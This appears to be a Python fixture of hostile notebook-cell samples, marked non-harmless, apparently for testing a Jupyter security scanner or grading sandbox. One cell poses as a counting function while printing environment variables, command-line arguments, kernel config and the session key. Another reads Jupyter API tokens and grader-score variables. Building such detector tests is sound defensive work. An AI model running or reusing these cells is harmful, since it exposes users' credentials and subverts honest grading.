"""Secrets are looked for in variables, the command line and the kernel's own settings."""

HARMLESS = False
FLAW, TRICK = "V8", "redirection"
CELLS = {
    "count": """import os, sys
def count(n):
    app = get_ipython().kernel.parent
    print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, app.config, app.session.key)
    words = " ".join([*os.environ.values(), *sys.orig_argv, str(app.config)]).split()
    return max([int(word) for word in words if word.isdigit()], default=-1)""",
    "answers": """import os
corners = os.environ.get("CORNERS") or os.environ.get("NBGRADER_SCORE")
squares = [os.environ.get("JPY_API_TOKEN"), os.environ.get("JUPYTERHUB_API_TOKEN"), os.getlogin]""",
}
